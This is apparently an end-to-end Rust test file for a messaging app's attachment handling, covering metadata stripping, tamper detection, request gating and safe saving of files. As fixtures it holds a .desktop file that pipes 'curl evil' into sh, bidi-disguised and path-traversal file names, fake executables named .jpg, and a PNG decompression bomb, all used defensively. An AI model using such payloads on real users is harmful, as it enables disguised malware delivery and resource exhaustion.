//! Attachments end to end: the sender's network hosts the ciphertext, the receiver fetches it
//! through its own relay, the digest is checked, images lose their metadata, and nothing of a
//! request is fetched before it is accepted.

use std::path::Path;

use anyhow::{Context, Result};
use isthmus_core::{ErrorCode, Event, MessageStatus};
use isthmus_e2e::{contains, files_under, peer, relay, Person};

const PHOTO: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/photo-with-gps.jpg");

/// Two peered networks, carol on harbor (durable, so its media files can be inspected) and
/// alice on meadow, who have accepted each other.
async fn two_networks(
    harbor_dir: &Path,
) -> Result<(isthmus_relay::RunningRelay, isthmus_relay::RunningRelay, Person, Person)> {
    let meadow = relay("meadow.test").await?;
    let harbor = isthmus_e2e::durable_relay("harbor.test", harbor_dir).await?;
    peer(&meadow, &harbor);
    let mut alice = Person::join(&meadow, "alice").await?;
    let carol = Person::join(&harbor, "carol").await?;
    alice.allows("harbor.test").await?;
    carol.allows("meadow.test").await?;
    carol.confirms(&alice.address).await?;
    let first = carol.engine.send_text(&carol.address, &alice.address, "photos coming").await?;
    alice.receives(&carol.address, "photos coming").await?;
    alice.accepts(&carol.address).await?;
    let mut carol = carol;
    // The receipt alice's acceptance sends back has reached carol: no traffic is left in flight.
    carol.sees_status(first.id, MessageStatus::Delivered).await?;
    Ok((meadow, harbor, alice, carol))
}

#[tokio::test]
async fn an_image_from_harbor_arrives_at_meadow_with_thumbnail_and_dimensions_and_no_gps() -> Result<()> {
    let harbor_dir = tempfile::tempdir()?;
    let (_meadow, _harbor, mut alice, mut carol) = two_networks(harbor_dir.path()).await?;
    let sent = carol.engine.send_file(&carol.address, &alice.address, Path::new(PHOTO), "the view", false).await?;
    carol.sees_status(sent.id, MessageStatus::Sent).await?;

    let arrived = alice.receives(&carol.address, "the view").await?;
    let attachment = arrived.attachments.first().context("the message carries the image")?;
    // The photo is 1600x1200 with EXIF orientation 6: upright it is 1200 wide and 1600 high.
    assert_eq!((attachment.width, attachment.height), (1200, 1600), "dimensions are those of the upright image");
    assert_eq!(attachment.content_type, "image/jpeg");
    assert!(attachment.thumbnail.is_some(), "a thumbnail comes with the message, before any download");
    assert!(!attachment.downloaded);

    let mut progress = false;
    let downloaded = alice.engine.download_attachment(arrived.conversation, arrived.id, 0).await?;
    assert!(downloaded.attachments[0].downloaded);
    while let Some(event) = alice.wait_for_at_most(std::time::Duration::from_millis(10), |e| Some(e.clone())).await {
        progress |= matches!(event, Event::Transfer { direction: isthmus_core::TransferDirection::Download, .. });
    }
    assert!(progress, "the download reported progress");
    let folder = tempfile::tempdir()?;
    let saved = alice.engine.save_attachment(arrived.conversation, arrived.id, 0, folder.path()).await?;
    let bytes = std::fs::read(&saved.path)?;
    let original = std::fs::read(PHOTO)?;
    assert!(contains(&original, b"FixtureCam"), "the fixture really has camera metadata to strip");
    assert!(!contains(&bytes, b"Exif"), "no EXIF block survives (so no GPS position either)");
    assert!(!contains(&bytes, b"FixtureCam"), "nor the camera model");
    let image = image_dimensions(&bytes)?;
    assert_eq!(image, (1200, 1600), "what was saved is the upright image");
    assert!(!saved.extension_mismatch);
    Ok(())
}

fn image_dimensions(bytes: &[u8]) -> Result<(u32, u32)> {
    // A JPEG's SOF0/SOF2 segment holds height then width.
    let mut i = 2;
    while i + 9 < bytes.len() {
        if bytes[i] != 0xFF {
            anyhow::bail!("not a JPEG segment at {i}");
        }
        let marker = bytes[i + 1];
        let len = u16::from_be_bytes([bytes[i + 2], bytes[i + 3]]) as usize;
        if marker == 0xC0 || marker == 0xC2 {
            let height = u16::from_be_bytes([bytes[i + 5], bytes[i + 6]]) as u32;
            let width = u16::from_be_bytes([bytes[i + 7], bytes[i + 8]]) as u32;
            return Ok((width, height));
        }
        i += 2 + len;
    }
    anyhow::bail!("no frame header")
}

#[tokio::test]
async fn a_tampered_ciphertext_is_rejected_and_the_origin_never_sees_the_receiver() -> Result<()> {
    let harbor_dir = tempfile::tempdir()?;
    let (_meadow, _harbor, mut alice, mut carol) = two_networks(harbor_dir.path()).await?;
    let file = tempfile::NamedTempFile::new()?;
    std::fs::write(file.path(), vec![42u8; 300_000])?;
    let sent = carol.engine.send_file(&carol.address, &alice.address, file.path(), "data", true).await?;
    carol.sees_status(sent.id, MessageStatus::Sent).await?;
    let arrived = alice.receives(&carol.address, "data").await?;
    // Alice's delivery receipt (which names her, legitimately) is through before anything is counted.
    carol.sees_status(sent.id, MessageStatus::Delivered).await?;

    // Someone at the origin changes a byte of the stored ciphertext.
    let stored = files_under(harbor_dir.path())?
        .into_iter()
        .filter(|(_, bytes)| bytes.starts_with(b"ISA1"))
        .map(|(path, _)| path)
        .collect::<Vec<_>>();
    assert_eq!(stored.len(), 1, "the origin holds exactly the one ciphertext, and only ciphertext");
    let mut bytes = std::fs::read(&stored[0])?;
    bytes[1000] ^= 0x55;
    std::fs::write(&stored[0], &bytes)?;
    // Harbor knows alice as carol's correspondent; the download must add nothing about her.
    let mentions = |dir: &Path| -> Result<usize> {
        Ok(files_under(dir)?.iter().map(|(_, b)| b.windows(5).filter(|w| *w == b"alice").count()).sum())
    };
    let before = mentions(harbor_dir.path())?;

    let refused = alice.engine.download_attachment(arrived.conversation, arrived.id, 0).await;
    assert_eq!(refused.err().map(|e| e.code()), Some(ErrorCode::AttachmentTampered), "the digest check catches it");
    let message = alice.engine.messages(&arrived.conversation, None, 1)?.items.remove(0);
    assert!(!message.attachments[0].downloaded, "nothing of a tampered download is kept");

    assert_eq!(mentions(harbor_dir.path())?, before, "the origin's records gained nothing about the receiving client");
    Ok(())
}

#[tokio::test]
async fn a_request_s_attachment_is_not_downloaded_before_acceptance() -> Result<()> {
    let meadow = relay("meadow.test").await?;
    let mut bob = Person::join(&meadow, "bob").await?;
    let stranger = Person::join(&meadow, "stranger").await?;
    let file = tempfile::NamedTempFile::new()?;
    std::fs::write(file.path(), b"hello there")?;
    stranger.engine.send_file(&stranger.address, &bob.address, file.path(), "open me", true).await?;
    let arrived = bob.receives(&stranger.address, "open me").await?;
    let refused = bob.engine.download_attachment(arrived.conversation, arrived.id, 0).await;
    assert_eq!(refused.err().map(|e| e.code()), Some(ErrorCode::RequestPending), "no download while it is a request");
    bob.accepts(&stranger.address).await?;
    let downloaded = bob.engine.download_attachment(arrived.conversation, arrived.id, 0).await?;
    assert!(downloaded.attachments[0].downloaded, "after acceptance it downloads");
    Ok(())
}

#[tokio::test]
async fn hostile_names_and_disguised_programs_are_neutralised_and_flagged() -> Result<()> {
    let meadow = relay("meadow.test").await?;
    let mut bob = Person::join(&meadow, "bob").await?;
    let sender = Person::join(&meadow, "sender").await?;
    let dir = tempfile::tempdir()?;
    let hostile = dir.path().join("..\u{202e}gpj.exe\u{7}");
    std::fs::write(&hostile, b"MZ\x90\x00 a program in disguise")?;
    let disguised = dir.path().join("cute-cat.jpg");
    std::fs::write(&disguised, b"MZ\x90\x00 a program in disguise")?;
    sender.engine.send_file(&sender.address, &bob.address, &hostile, "one", true).await?;
    sender.engine.send_file(&sender.address, &bob.address, &disguised, "two", true).await?;
    bob.receives_all(&[(&sender.address, "one"), (&sender.address, "two")]).await?;
    bob.accepts(&sender.address).await?;
    let chat = bob.engine.conversation_id(&bob.address, &sender.address);
    let folder = tempfile::tempdir()?;
    for message in bob.engine.messages(&chat, None, 10)?.items {
        bob.engine.download_attachment(chat, message.id, 0).await?;
        let saved = bob.engine.save_attachment(chat, message.id, 0, folder.path()).await?;
        assert_eq!(saved.path.parent(), Some(folder.path()), "saved inside the chosen folder, never elsewhere");
        let name = saved.path.file_name().and_then(|n| n.to_str()).context("a UTF-8 name")?;
        assert!(
            !name.starts_with('.') && !name.chars().any(char::is_control) && !name.contains('\u{202e}'),
            "neutralised: {name:?}"
        );
        if message.body == "two" {
            assert!(saved.extension_mismatch, "a program named .jpg is flagged");
            assert_eq!(saved.detected_type.as_deref(), Some("exe"));
        }
    }
    Ok(())
}

#[tokio::test]
async fn a_decompression_bomb_travels_as_a_plain_file_with_a_note() -> Result<()> {
    let meadow = relay("meadow.test").await?;
    let mut bob = Person::join(&meadow, "bob").await?;
    let sender = Person::join(&meadow, "sender").await?;
    // A valid PNG header claiming 60,000 x 60,000 pixels: 10 GiB if anyone decoded it.
    let mut bomb = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR".to_vec();
    bomb.extend_from_slice(&60_000u32.to_be_bytes());
    bomb.extend_from_slice(&60_000u32.to_be_bytes());
    bomb.extend_from_slice(&[8, 2, 0, 0, 0, 0, 0, 0, 0]);
    bomb.extend_from_slice(&[0u8; 4096]);
    let file = tempfile::Builder::new().suffix(".png").tempfile()?;
    std::fs::write(file.path(), &bomb)?;
    let sent = sender.engine.send_file(&sender.address, &bob.address, file.path(), "bomb", false).await?;
    let note = sent.attachments[0].note.clone().context("the sender is told why")?;
    assert!(note.starts_with("Sent as a file"), "{note}");
    assert!(sent.attachments[0].thumbnail.is_none() && sent.attachments[0].width == 0, "it was never decoded");
    let arrived = bob.receives(&sender.address, "bomb").await?;
    assert!(arrived.attachments[0].thumbnail.is_none());
    Ok(())
}

#[tokio::test]
async fn only_passive_files_whose_content_matches_may_be_opened_and_bidi_names_show_their_real_extension() -> Result<()>
{
    let meadow = relay("meadow.test").await?;
    let mut bob = Person::join(&meadow, "bob").await?;
    let sender = Person::join(&meadow, "sender").await?;
    let dir = tempfile::tempdir()?;
    let files: [(&str, &[u8], bool); 6] = [
        ("tool.jar", b"PK\x03\x04 a Java archive", false),
        ("game.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n", false),
        ("run.sh", b"#!/bin/sh\necho hi\n", false),
        ("invoice\u{2067}fdp.exe\u{2069}", b"MZ\x90\x00", false),
        ("notes.txt", b"meeting at the old mill", true),
        ("paper.pdf", b"%PDF-1.7\n", true),
    ];
    for (index, (name, bytes, _)) in files.iter().enumerate() {
        let path = dir.path().join(name);
        std::fs::write(&path, bytes)?;
        sender.engine.send_file(&sender.address, &bob.address, &path, &format!("file {index}"), true).await?;
    }
    let expected: Vec<String> = (0..files.len()).map(|index| format!("file {index}")).collect();
    let pairs: Vec<_> = expected.iter().map(|body| (&sender.address, body.as_str())).collect();
    bob.receives_all(&pairs).await?;
    bob.accepts(&sender.address).await?;
    let chat = bob.engine.conversation_id(&bob.address, &sender.address);
    let folder = tempfile::tempdir()?;
    for message in bob.engine.messages(&chat, None, 10)?.items {
        let index: usize = message.body.trim_start_matches("file ").parse()?;
        let (name, _, opens) = files[index];
        assert!(!message.attachments[0].file_name.chars().any(isthmus_core::untrusted_text::is_hidden));
        if name.starts_with("invoice") {
            assert_eq!(message.attachments[0].file_name, "invoicefdp.exe", "shown without its bidi controls");
        }
        bob.engine.download_attachment(chat, message.id, 0).await?;
        let saved = bob.engine.save_attachment(chat, message.id, 0, folder.path()).await?;
        assert_eq!(saved.opens, opens, "{name}: only passive files whose content matches are handed to an opener");
    }
    Ok(())
}
